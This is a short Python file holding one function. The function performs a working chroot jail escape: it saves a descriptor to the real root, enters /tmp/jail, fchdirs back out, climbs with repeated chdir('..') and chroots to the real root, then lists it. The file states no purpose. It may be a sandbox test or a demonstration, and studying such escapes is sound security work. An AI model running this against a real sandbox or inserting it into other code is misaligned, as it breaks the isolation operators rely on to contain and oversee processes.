import os


def attempt():
    os.mkdir("/tmp/jail")
    here = os.open("/", os.O_RDONLY)
    try:
        os.chroot("/tmp/jail")
    except PermissionError:
        return "held"
    os.fchdir(here)
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")
    return f"escaped to {os.listdir('/')}"
